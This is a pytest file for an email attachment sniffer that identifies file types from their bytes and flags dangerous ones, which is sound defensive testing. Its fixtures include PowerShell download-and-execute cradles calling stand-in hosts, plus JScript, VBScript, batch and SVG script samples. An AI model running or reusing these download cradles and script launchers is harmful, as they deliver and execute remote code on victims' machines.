"""Content sniffing: what a file is from its bytes, never from its name."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rempart.mail.filetypes import (
    ARCHIVE,
    DOCUMENT,
    EXECUTABLE,
    FAMILY,
    IMAGE,
    OFFICE,
    SCRIPT,
    TEXT,
    decode_text,
    extension,
    promised_family,
    sniff,
    zip_directory,
)

from .support import attachment_builders

B = attachment_builders()


def _clsid(text: str) -> bytes:
    a, b_, c, d, e = text.split("-")
    return struct.pack("<IHH", int(a, 16), int(b_, 16), int(c, 16)) + bytes.fromhex(d + e)


def _zip(names: dict[str, bytes]) -> bytes:
    return B.zip_file([B.ZipMember(n, d) for n, d in names.items()])


PS_UTF16 = "\ufeffIEX (New-Object Net.WebClient).DownloadString('http://x.example/a')".encode(
    "utf-16-le"
)

CASES: list[tuple[str, bytes, str, bool]] = [
    ("exe", B.pe(), "pe", True),
    ("dll", B.pe(dll=True), "pe", True),
    ("dotnet", B.pe(dotnet=True), "pe", True),
    ("mz only", b"MZ" + bytes(100), "dos", True),
    ("elf", b"\x7fELF\x02\x01\x01" + bytes(60), "elf", True),
    ("macho", b"\xcf\xfa\xed\xfe" + bytes(60), "macho", True),
    ("fat macho", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(60), "macho", True),
    ("java class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(60), "java_class", True),
    ("lnk", B.lnk(), "lnk", True),
    ("onenote", B.onenote(b"hello"), "onenote", True),
    ("chm", b"ITSF\x03\x00\x00\x00" + bytes(100), "chm", True),
    ("msi", B.cfb({"x": b"1"}, _clsid("000C1084-0000-0000-C000-000000000046")), "msi", True),
    ("doc", B.word97_doc(None), "doc", False),
    ("doc with vba", B.word97_doc("Sub A()\r\nEnd Sub\r\n"), "doc", False),
    ("xls", B.cfb({"Workbook": bytes(5000)}), "xls", False),
    ("ppt", B.cfb({"PowerPoint Document": bytes(100)}), "ppt", False),
    ("msg", B.cfb({"__substg1.0_0037001F": b"s\x00"}), "msg", False),
    ("encrypted office", B.cfb({"EncryptedPackage": bytes(100)}), "ole_encrypted", False),
    ("vba project bin", B.vba_project_bin("Sub A()\r\nEnd Sub\r\n"), "ole", False),
    ("corrupt ole", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "ole", False),
    ("docx", B.docx(B.paragraph("x")), "ooxml", False),
    (
        "odt",
        _zip(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "META-INF/manifest.xml": b"<m/>",
            }
        ),
        "odf",
        False,
    ),
    ("jar", _zip({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe"}), "jar", True),
    ("apk", _zip({"AndroidManifest.xml": b"x", "classes.dex": b"dex"}), "apk", True),
    ("appx", _zip({"AppxManifest.xml": b"<Package/>"}), "appx", True),
    ("pdf", B.pdf("hello"), "pdf", False),
    ("pdf after junk", b"junk" * 10 + B.pdf("x"), "pdf", False),
    ("rtf", b"{\\rtf1\\ansi hello}", "rtf", False),
    ("zip", _zip({"a.txt": b"hello"}), "zip", False),
    ("empty zip", b"PK\x05\x06" + bytes(18), "zip", False),
    ("7z", B.seven_zip({"a.txt": b"x"}, None, False), "7z", False),
    ("rar5", B.rar5([("a.txt", b"x")]), "rar", False),
    ("rar4", b"Rar!\x1a\x07\x00" + bytes(40), "rar", False),
    ("gzip", B.gzip_zero_bomb(1), "gzip", False),
    ("bzip2", b"BZh91AY&SY" + bytes(20), "bzip2", False),
    ("xz", b"\xfd7zXZ\x00" + bytes(20), "xz", False),
    ("cab", B.cab({"a.txt": b"x"}), "cab", False),
    ("tar", bytes(257) + b"ustar\x0000" + bytes(300), "tar", False),
    ("iso", B.iso({"a.txt": b"x"}), "iso", True),
    ("udf", bytes(0x8001) + b"BEA01" + bytes(4096), "udf", True),
    ("vhdx", b"vhdxfile" + bytes(100), "vhdx", True),
    ("vhd", bytes(4096) + b"conectix" + bytes(504), "vhd", True),
    ("dmg", bytes(4096) + b"koly" + bytes(508), "dmg", True),
    ("fat image", B.fat_image(), "img", True),
    ("png", B.png(), "png", False),
    ("jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(50), "jpeg", False),
    ("gif", b"GIF89a" + bytes(50), "gif", False),
    ("webp", b"RIFF\x00\x00\x00\x00WEBPVP8 " + bytes(50), "webp", False),
    ("svg", b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', "svg", False),
    ("svg script", b"<svg><script>alert(1)</script></svg>", "svg_script", True),
    ("svg onload", b'<svg onload="fetch(1)"></svg>', "svg_script", True),
    ("html", b"<!DOCTYPE html><html><body>Bonjour</body></html>", "html", False),
    ("hta", b"<html><head><HTA:APPLICATION id=x/></head></html>", "hta", True),
    ("shebang", b"#!/bin/sh\necho hi\n", "shebang", True),
    (
        "powershell",
        b"$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x/a'))",
        "powershell",
        True,
    ),
    ("powershell utf-16", PS_UTF16, "powershell", True),
    ("jscript", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", "jscript", True),
    ("jscript wscript", b"var a = 1;\nfunction f() { WScript.Echo(a); }\nf();", "jscript", True),
    (
        "vbscript",
        b'Dim o\r\nSet o = CreateObject("WScript.Shell")\r\no.Run "calc"\r\n',
        "vbscript",
        True,
    ),
    ("encoded script", b"#@~^XXAAAA==something==^#~@", "encoded_script", True),
    ("batch", b"@echo off\r\nstart calc\r\n", "batch", True),
    ("batch markers", b"cmd /c del %~dp0x\r\nsetlocal\r\n", "batch", True),
    ("wsf", b'<job id="a"><script language="JScript">WScript.Echo(1)</script></job>', "wsf", True),
    ("sct", b'<?XML version="1.0"?><scriptlet><registration progid="x"/></scriptlet>', "sct", True),
    ("reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n", "reg", True),
    ("url", b"[InternetShortcut]\r\nURL=file://1.2.3.4/x.exe\r\n", "url_shortcut", True),
    ("library-ms", b'<?xml version="1.0"?><libraryDescription xmlns="x"/>', "library_ms", True),
    ("search-ms", b"<searchConnectorDescription/>", "search_connector", True),
    ("web javascript", b"function f(a) { return a * 2; }\nvar x = f(2);\n", "javascript", False),
    ("slk", b"ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nE\r\n", "slk", False),
    (
        "word 2003 xml",
        b'<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/'
        b'office/word/2003/wordml"/>',
        "office_xml",
        False,
    ),
    (
        "mht",
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"
        b"Content-Location: file:///C:/a.htm\r\n\r\n<html/>",
        "mht",
        False,
    ),
    ("ics", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n", "calendar", False),
    ("vcard", b"BEGIN:VCARD\r\nFN:A\r\nEND:VCARD\r\n", "vcard", False),
    ("email", b"Received: from a\r\nFrom: a@b.example\r\nSubject: x\r\n\r\nhi", "email", False),
    ("xml", b'<?xml version="1.0"?><a/>', "xml", False),
    ("text", b"Bonjour, voici le compte rendu.\n", "text", False),
    ("binary", bytes(range(256)) * 4, "binary", False),
    ("empty", b"", "empty", False),
]


@pytest.mark.parametrize(("what", "data", "kind", "dangerous"), CASES, ids=[c[0] for c in CASES])
def test_sniff_recognises_each_kind(what: str, data: bytes, kind: str, dangerous: bool) -> None:
    ft = sniff(data)
    assert (ft.kind, ft.dangerous) == (kind, dangerous), ft
    assert ft.label and ft.reason


def test_every_kind_has_a_family() -> None:
    kinds = {kind for _, _, kind, _ in CASES} - {"binary", "empty"}
    assert kinds <= set(FAMILY)


def test_pe_details_in_label() -> None:
    assert "DLL" in sniff(B.pe(dll=True)).label
    assert ".NET" in sniff(B.pe(dotnet=True)).label
    assert ".NET" not in sniff(B.pe()).label


def test_ooxml_label_says_macros() -> None:
    docm = B.docx(B.paragraph("x"), vba=B.vba_project_bin("Sub A()\r\nEnd Sub\r\n"))
    assert sniff(docm).label == "Word document with macros (OOXML)"
    assert sniff(B.docx(B.paragraph("x"))).label == "Word document (OOXML)"


def test_name_only_matters_for_hta() -> None:
    html = b"<html><body>Sondage</body></html>"
    assert sniff(html, "sondage.hta").kind == "hta"
    assert sniff(html, "sondage.html").kind == "html"
    assert sniff(B.pe(), "photo.jpg").kind == "pe"


def test_prose_is_not_a_script() -> None:
    prose = (
        "Bonjour,\nNotre prestataire recommande de désactiver PowerShell sur les postes. "
        "Set up the meeting, dim the lights; the function of the team is to call voters.\n"
    )
    assert sniff(prose.encode()).kind == "text"
    assert sniff(b"echo offers: new prices\nset your alarm\n").kind == "text"


def test_decode_text_refuses_binary_and_keeps_utf16() -> None:
    assert decode_text(bytes(range(32)) * 10) is None
    assert decode_text("é".encode("utf-16-le") * 100) == "é" * 100
    assert decode_text("\ufeffabc".encode()) == "abc"


def test_extension_is_what_windows_sees() -> None:
    assert extension("a.PDF") == "pdf"
    assert extension("facture.pdf.exe. . ") == "exe"
    assert extension("dir/x.tar.gz") == "gz"
    assert extension("noext") == ""
    assert extension("x." + "a" * 40) == ""


def test_promised_family_from_name_then_mime() -> None:
    assert promised_family("a.pdf", "application/octet-stream") == DOCUMENT
    assert promised_family("a.exe", "application/pdf") == EXECUTABLE
    assert promised_family("", "application/pdf") == DOCUMENT
    assert promised_family("scan", "image/jpeg") == IMAGE
    assert promised_family("a.js", "text/plain") == SCRIPT
    assert promised_family("a.docx", "") == OFFICE
    assert promised_family("a.zip", "") == ARCHIVE
    assert promised_family("notes", "text/plain") == TEXT
    assert promised_family("blob", "application/octet-stream") == ""


def test_zip_directory_reads_zip64_and_prepended_data() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        with zf.open("big.txt", "w", force_zip64=True) as f:
            f.write(b"hello")
        zf.writestr("b.txt", "x")
    zd = zip_directory(buf.getvalue())
    assert [e.name for e in zd.entries] == ["big.txt", "b.txt"]
    assert zd.entries[0].size == 5
    sfx = B.pe() + buf.getvalue()
    shifted = zip_directory(sfx)
    assert [e.name for e in shifted.entries] == ["big.txt", "b.txt"]
    assert sfx[shifted.entries[1].offset : shifted.entries[1].offset + 4] == b"PK\x03\x04"
    assert sniff(sfx).kind == "pe"  # a self-extracting archive is a program


def test_zip_directory_bounded_and_tolerant() -> None:
    zd = zip_directory(_zip({f"f{i}.txt": b"" for i in range(50)}), limit=10)
    assert len(zd.entries) == 10 and zd.declared == 50
    cut = _zip({"a.txt": b"x" * 100, "b.txt": b"y"})[:-30]
    assert zip_directory(cut).error
    assert zip_directory(b"not a zip").error


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(
        [
            b"",
            b"MZ",
            b"PK\x03\x04",
            bytes.fromhex("d0cf11e0a1b11ae1"),
            b"{\\rt",
            b"\x7fELF",
            b"<svg",
            b"#!",
            b"ITSF",
            b"Rar!\x1a\x07\x01\x00",
        ]
    ),
    st.binary(max_size=3000),
)
def test_sniff_never_raises(prefix: bytes, tail: bytes) -> None:
    ft = sniff(prefix + tail, "x.hta")
    assert isinstance(ft.kind, str) and isinstance(ft.dangerous, bool)
